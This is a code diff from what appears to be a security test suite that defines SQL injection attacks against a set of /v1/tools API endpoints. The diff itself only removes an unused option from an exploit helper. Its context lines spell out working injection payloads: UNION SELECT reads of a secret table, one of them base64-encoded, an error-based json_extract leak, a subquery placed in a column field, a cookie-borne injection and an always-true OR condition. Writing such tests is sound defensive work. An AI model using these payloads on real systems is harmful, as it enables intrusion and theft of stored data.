@@ -8,7 +8,6 @@ import { columns, type Place, places, valueAt } from './sql/places.ts';
 const valueLengthMax = 4000;
 const base = '/v1/tools';
 const [first, ...others] = places.map(({ operation }) => operation);
-const asText = 'a statement that is whole from its first word may be somebody’s text about SQL';
 const code = `SELECT ${vault.column} FROM ${vault.table}`;
 const union = ` UNION SELECT 1, ${vault.column}, 1 FROM ${vault.table}--`;
 
@@ -33,7 +32,7 @@ export const sqlInjection = defineAttack({
       headers: { cookie: `branch=${encodeURIComponent(`'${union}`)}` },
     }),
     exploit('rows of another table in base64', asking(`${base}/branch-import`, { city: Buffer.from(`'${union}`).toString('base64') })),
-    exploit('a query where a column belongs', asking(`${base}/branch-column`, { column: code }), { passes: asText }),
+    exploit('a query where a column belongs', asking(`${base}/branch-column`, { column: code })),
     exploit('a query joined to a column', asking(`${base}/branch-column`, { column: `name||(${code})` })),
     exploit('a message of the database', asking(`${base}/branches`, { city: `Norwich' AND json_extract('{}', (${code}))--` })),
     exploit('all rows, by a condition that always holds', asking(`${base}/branches`, { city: "' OR 'a'='a" }), { sign: 'Riverside' }),
@@ -66,12 +65,8 @@ export const sqlInjection = defineAttack({
   ],
 });
 
-function exploit(
-  name: string,
-  step: Step,
-  { sign = vault.codes[0], passes }: { readonly sign?: string; readonly passes?: string } = {},
-): Exploit {
-  return { name, steps: [step], works: showing(sign), ...(passes === undefined ? {} : { passes }) };
+function exploit(name: string, step: Step, { sign = vault.codes[0] }: { readonly sign?: string } = {}): Exploit {
+  return { name, steps: [step], works: showing(sign) };
 }
 
 function visiting(city: string): Step {
